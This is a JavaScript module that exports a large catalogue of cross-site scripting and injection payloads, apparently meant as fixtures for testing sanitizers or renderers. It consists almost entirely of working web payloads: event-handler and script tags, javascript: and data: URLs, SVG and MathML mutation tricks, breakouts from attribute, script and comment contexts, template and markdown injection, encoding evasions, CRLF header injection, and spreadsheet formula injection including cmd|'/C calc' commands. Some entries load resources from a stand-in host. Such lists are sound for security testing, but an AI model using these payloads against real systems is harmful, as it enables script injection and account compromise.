/** What each payload would do: tell the page that it ran, or ask a host that nobody has. */
const CANARY = 'canary.example';

const RUN = 'alert(1)';
const SEPARATORS = '\u2028\u2029';

/** Handlers that fire by themselves, or when somebody passes by. */
const handlers = [
  ['img src=x', 'onerror'], ['img src=/x', 'onload'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['video><source', 'onerror'], ['audio src=x', 'onerror'], ['marquee', 'onstart'],
  ['object data=x', 'onerror'], ['iframe src=about:blank', 'onload'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['p', 'onmouseover'], ['a href=# tabindex=1', 'onclick'],
  ['div contenteditable', 'onfocusin'], ['form', 'onsubmit'], ['x style=animation-name:spin', 'onanimationstart'], ['div popover', 'onbeforetoggle'], ['p', 'onpointerenter'], ['input type=image src=x', 'onerror'],
].map(([tag, on]) => `<${tag} ${on}=${RUN}>`);

const tags = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//${CANARY}/x.js></script>`, `<script type=module>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<script>${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script x>${RUN}</script y>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe src=//${CANARY}/frame>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<embed src=//${CANARY}/e>`, `<base href=//${CANARY}/>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=//${CANARY}/m">`,
  `<link rel=import href=//${CANARY}/i>`, `<link rel=stylesheet href=//${CANARY}/s.css>`, `<link rel=preload as=image href=//${CANARY}/p>`, `<form action="javascript:${RUN}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex action=javascript:${RUN}>`, `<applet code=x archive=//${CANARY}/a>`, `<frameset onload=${RUN}><frame src=x>`, `<dialog open onclose=${RUN}><form method=dialog>`, `<img src=//${CANARY}/i.png>`, `<video poster=//${CANARY}/v.png>`, `<xmp><script>${RUN}</script></xmp>`,
];

const urls = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` \u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `&#106;avascript:${RUN}`, `javascript://%0a${RUN}`, `javascript://${CANARY}/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`, `vbscript:msgbox(1)`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`, `blob:javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="data:text/html,<script>${RUN}</script>">x</a>`, `<a href=//${CANARY} ping=//${CANARY}/ping>x</a>`, `<a target=_blank href=javas&Tab;cript:${RUN}>x</a>`,
];

const vector = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`, `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`, `<svg><style>@import "//${CANARY}/svg.css";</style>`, `<svg><image href=//${CANARY}/i onerror=${RUN}>`,
  `<svg><title><style><img src="</style><img src=x onerror=${RUN}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`, `<![CDATA[<script>${RUN}</script>]]>`, `]]><script>${RUN}</script>`,
];

/** Out of where text stands: attributes, elements that hold plain text, scripts, comments, styles. */
const contexts = [
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `" autofocus onfocus=${RUN} x="`, `' autofocus onfocus=${RUN} x='`, `\` onmouseover=${RUN} \``, ` onmouseover=${RUN} `, `x" style="background:url(//${CANARY}/bg)" y="`, `"/><script>${RUN}</script>`, `"]<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `</template><script>${RUN}</script>`, `</select><script>${RUN}</script>`, `</option></select><img src=x onerror=${RUN}>`, `</svg><img src=x onerror=${RUN}>`, `</a></h1></main><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script>`, `--!><img src=x onerror=${RUN}>`, `<!--><img src=x onerror=${RUN}>-->`, `<!--<img src="--><img src=x onerror=${RUN}>">`, `<![if !IE]><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `</ScRiPt ><img src=x onerror=${RUN}>`, `</script\u000b><img src=x onerror=${RUN}>`, `<!--<script>${RUN}`, `"}</script><svg onload=${RUN}>`, `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}`, `"+${RUN}+"`, `'-${RUN}-'`, `\\";${RUN};//`, `\\'-${RUN}//`, `${SEPARATORS}${RUN}${SEPARATORS}`, `x\u2028</script><script>${RUN}</script>`,
  `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `{${RUN}}`, `{count, plural, one {<script>${RUN}</script>} other {x}}`, `<b>{name}</b>{name, select, other {<img src=x onerror=${RUN}>}}`,
  `</style><style>*{background:url(//${CANARY}/css)}</style>`, `<style>@import '//${CANARY}/import.css';</style>`, `<p style="background:url('//${CANARY}/style')">`, `<p style="width:expression(${RUN})">`, `red;background:url(//${CANARY}/value)`, `");background:url(//${CANARY}/q);("`, `<p style="-moz-binding:url(//${CANARY}/xbl)">`,
];

const mutated = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`, `<table><td><svg><desc><td><style><img title="</style><img src=x onerror=${RUN}>">`, `<select><iframe></select><img src=x onerror=${RUN}>`,
  `<p id="</p><img src=x onerror=${RUN}>">`, `<template><img src=x onerror=${RUN}></template>`, `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, `<a id=x href=x:><a id=x name=y href="javascript:${RUN}">`, `<img name=getElementById src=x onerror=${RUN}>`, `<input id=attributes><form id=x><input name=nodeName>`, `<plaintext><img src=x onerror=${RUN}>`,
];

const markdown = [
  `[x](javascript:${RUN})`, `[x](JAVASCRIPT:${RUN})`, `[x](java&#115;cript:${RUN})`, `[x](javascript&colon;${RUN})`, `[x](<javascript:${RUN}>)`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](vbscript:x)`, `[x](//${CANARY} "x\\" onmouseover=${RUN} y=\\"")`, `[x](https://${CANARY}/"onmouseover=${RUN})`,
  `![x](javascript:${RUN})`, `![x](//${CANARY}/md.png)`, `![x](x"onerror="${RUN})`, `<javascript:${RUN}>`, `<https://${CANARY}/"onclick=${RUN}>`, `https://${CANARY}/<script>${RUN}</script>`, `www.${CANARY}/"onmouseover=${RUN}`, `x@${CANARY}"onmouseover=${RUN}`, `[x][y]\n\n[y]: javascript:${RUN}`,
  `[^n]\n\n[^n]: <img src=x onerror=${RUN}>`, `| a |\n|---|\n| <img src=x onerror=${RUN}> |`, `\`\`\`js" onmouseover=${RUN}\n${RUN}\n\`\`\``, `\`<img src=x onerror=${RUN}>\``, `# <img src=x onerror=${RUN}>`, `> <script>${RUN}</script>`, `- [ ] <img src=x onerror=${RUN}>`, `~~<svg onload=${RUN}>~~`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `\\<script>${RUN}</script>`, `<div markdown=1><img src=x onerror=${RUN}></div>`,
];

const encodings = [
  `%3Cscript%3E${RUN}%3C/script%3E`, `%253Cscript%253E${RUN}%253C/script%253E`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `＜script＞${RUN}＜/script＞`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<img/src=x/onerror=${RUN}>`, `<img\u00a0src=x onerror=${RUN}>`, `<img\fsrc=x\fonerror=${RUN}>`, `<img src=x onerror=&#97;lert(1)>`, `<svg/onload=&#x61;lert(1)>`, `<İmg src=x onerror=${RUN}>`, `ſcript:${RUN}`, `<ſcript>${RUN}</ſcript>`,
];

const headers = [`x\r\nX-Injected: 1`, `x\r\nSet-Cookie: injected=1`, `x\r\nBcc: evil@${CANARY}`, `x%0d%0aSet-Cookie:%20injected=1`, `x\r\n\r\n<script>${RUN}</script>`, `"; filename="x.html`, `x.html";\r\nContent-Type: text/html`, `=?utf-8?Q?=3Cscript=3E${RUN}=3C/script=3E?=`];
const formulas = [`=HYPERLINK("//${CANARY}/f","x")`, `=cmd|'/C calc'!A0`, `+WEBSERVICE("//${CANARY}/w")`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+1)*cmd|'/C calc'!A0`, `\t=1+1`, `\r=1+1`, `=IMPORTXML("//${CANARY}/x","//a")`, `;=1+1`, `"=1+1`];

export const FAMILIES = { tags, handlers, urls, vector, contexts, mutated, markdown, encodings, headers, formulas };
export const PAYLOADS = Object.values(FAMILIES).flat();
